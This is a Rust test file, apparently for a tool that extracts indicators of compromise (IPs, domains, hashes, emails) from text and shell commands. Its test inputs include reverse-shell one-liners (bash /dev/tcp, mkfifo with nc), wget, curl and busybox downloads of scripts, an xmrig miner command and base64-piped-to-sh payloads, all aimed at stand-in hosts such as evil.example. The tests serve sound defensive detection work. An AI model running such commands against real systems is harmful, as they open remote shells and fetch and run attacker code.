use super::*;
use proptest::prelude::*;
use tahoe_core::Attribute;

fn shown(found: impl Iterator<Item = Indicator>) -> Vec<String> {
    let show = |a: &Attribute| format!("{} {}", a.sub_type(), a.data());
    found
        .flat_map(|indicator| {
            let about: Vec<String> = indicator
                .about
                .iter()
                .map(|a| format!("+{}", show(a)))
                .collect();
            std::iter::once(show(&indicator.attribute)).chain(about)
        })
        .collect()
}

#[test]
fn finds_indicators_in_text() {
    for (text, expected) in [
        (
            "C2 203.0.113.77 and evil[.]example, mail mallory@evil.example.",
            &[
                "ipv4 203.0.113.77",
                "url evil[.]example",
                "+hostname evil.example",
                "+domain evil.example",
                "email_addr mallory@evil.example",
            ][..],
        ),
        (
            "md5 D41D8CD98F00B204E9800998ECF8427E sha1:da39a3ee5e6b4b0d3255bfef95601890afd80709 \
             (e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855)",
            &[
                "md5 d41d8cd98f00b204e9800998ecf8427e",
                "sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709",
                "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            ],
        ),
        (
            "00000000000000000000000000000000 0123456789abcdef0123456789ABCDEF 12345678901234567890123456789012 \
             xd41d8cd98f00b204e9800998ecf8427e",
            &[],
        ),
        (
            "203.0.113.77:8080, 203.0.113.0/24; [203.0.113.78] 203.0.113.79/x addr:203.0.113.80. 203.0.113.81-203.0.113.82",
            &[
                "ipv4 203.0.113.77",
                "cidr 203.0.113.0/24",
                "ipv4 203.0.113.78",
                "ipv4 203.0.113.79",
                "ipv4 203.0.113.80",
                "ipv4 203.0.113.81",
                "ipv4 203.0.113.82",
            ],
        ),
        (
            "é/203.0.113.77 éx/1.2.3.4 x==1.2.3.4",
            &["ipv4 203.0.113.77"],
        ),
        (
            "Chrome/58.0.30.81 lib-1.2.3.4.tar.gz v1.2.3.4 version 1.2.3.4 Version: 1.2.3.4 1.3.6.1.4.1 \
             1.2.3 256.1.1.1 0.0.0.0 127.0.0.1 255.255.255.0 10.20.30.40abc 1.2.3.4.in-addr.arpa foo-1.2.3.4",
            &[],
        ),
        (
            "2001:db8::1 [2001:db8::2]:80 fe80::5054:ff:fe12:3456%eth0 ::ffff:203.0.113.9 2001[:]db8[:][:]3",
            &[
                "ipv6 2001:db8::1",
                "ipv6 2001:db8::2",
                "ipv6 fe80::5054:ff:fe12:3456",
                "ipv4 203.0.113.9",
                "ipv6 2001:db8::3",
            ],
        ),
        (
            "10:30:45 a::b std::io ::1 00:11:22:33:44:55 00:11:22:33:44:55:66:77 ::",
            &[],
        ),
        (
            "mallory[@]evil[.]example, eve(at)evil(dot)example mailto:bob@a.example <amy+x@b.example>",
            &[
                "email_addr mallory@evil.example",
                "email_addr eve@evil.example",
                "email_addr bob@a.example",
                "email_addr amy+x@b.example",
            ],
        ),
        (
            "@a.example a@b root@localhost a@1.x me@2x.png",
            &["email_addr me@2x.png"],
        ),
        ("a.example file.txt read.me x.y.z", &[]),
        (
            "wget http://203.0.113.77/a.sh",
            &["url http://203.0.113.77/a.sh", "+ipv4 203.0.113.77"],
        ),
    ] {
        assert_eq!(shown(in_text(text)), expected, "{text}");
    }
}

#[test]
fn finds_what_commands_connect_to() {
    for (text, expected) in [
        (
            "bash -i >& /dev/tcp/203.0.113.77/22 0>&1",
            &["ipv4 203.0.113.77", "ipv4 203.0.113.77"][..],
        ),
        (
            "exec 5<>/dev/tcp/evil.example/4444",
            &["hostname evil.example", "+domain evil.example"],
        ),
        (
            "cd /tmp; wget evil.example/x.sh -O y.sh || curl -O dl.evil.example -o a.py",
            &[
                "url evil.example/x.sh",
                "+hostname evil.example",
                "+domain evil.example",
                "hostname dl.evil.example",
                "+domain evil.example",
            ],
        ),
        (
            "/bin/busybox tftp -g -l x.sh -r y.sh tftp.evil.example 69",
            &["hostname tftp.evil.example", "+domain evil.example"],
        ),
        (
            "busybox ftpget -v -u anonymous -p a.b.example -P 21 ftp.evil.example a.sh b.sh",
            &["hostname ftp.evil.example", "+domain evil.example"],
        ),
        (
            "rm f;mkfifo f;cat f|sh -i 2>&1|nc -w 3 c2.evil.example 4444 >f",
            &["hostname c2.evil.example", "+domain evil.example"],
        ),
        (
            "sshpass -p x ssh -o StrictHostKeyChecking=no -p 22 root@evil.example uname",
            &["hostname evil.example", "+domain evil.example"],
        ),
        (
            "scp a.sh root@evil.example:/tmp/b.sh",
            &["hostname evil.example", "+domain evil.example"],
        ),
        (
            "wget 0xcb00714d/x",
            &["url 0xcb00714d/x", "+ipv4 203.0.113.77"],
        ),
        ("ping -c 1 3405803853", &["ipv4 203.0.113.77"]),
        (
            "sh -c \"sleep 1; sudo wget -q evil.example\"",
            &["hostname evil.example", "+domain evil.example"],
        ),
        (
            "./xmrig -o pool.evil.example:3333 -u 4x -p x; python a.py:3 b.sh:4",
            &["hostname pool.evil.example", "+domain evil.example"],
        ),
        (
            "wget$IFS$9evil.example/x; curl${IFS}evil.example/y",
            &[
                "url evil.example/x",
                "+hostname evil.example",
                "+domain evil.example",
                "url evil.example/y",
                "+hostname evil.example",
                "+domain evil.example",
            ],
        ),
        (
            "nc -v 203.0.113.77 80",
            &["ipv4 203.0.113.77", "ipv4 203.0.113.77"],
        ),
        (
            "cat a.sh b.py > c.example; echo wget evil.example; chmod 777 x.sh; ssh-keygen -C a@b.example",
            &[],
        ),
        (
            "echo d2dldCBodHRwOi8vYS5leGFtcGxlL3g= | base64 -d | sh",
            &[
                "url http://a.example/x",
                "+hostname a.example",
                "+domain a.example",
            ],
        ),
        (
            "wget $URL; curl \"$h\" | sh; nc -lvp 4444; ping 127.0.0.1",
            &[],
        ),
    ] {
        assert_eq!(shown(in_command(text)), expected, "{text}");
    }
}

#[test]
fn keeps_each_once_and_counts_the_rest() {
    let text = "203.0.113.1 203.0.113.2 203.0.113.1 203.0.113.3 x@a.example 203.0.113.3";
    let (kept, left_out) = distinct(in_text(text), &[Kind::Address], 2);
    assert_eq!(
        shown(kept.into_iter()),
        ["ipv4 203.0.113.1", "ipv4 203.0.113.2"]
    );
    assert_eq!(left_out, 2);
}

proptest! {
    #[test]
    fn never_panics(
        text in ".*",
        ascii in "[ -~\n]{0,80}",
        marks in "(wget|http|nc|ssh|a|1|\\.|:|//|/|\\[|\\]|\\(|\\)|@|%20|'|\"|\\\\|\\$IFS| |;|dot|at|é){0,40}",
    ) {
        for text in [text, ascii, marks] {
            prop_assert!(in_text(&text).count() <= text.len());
            prop_assert!(in_command(&text).count() <= 8 * (text.len() + 1));
        }
    }
}
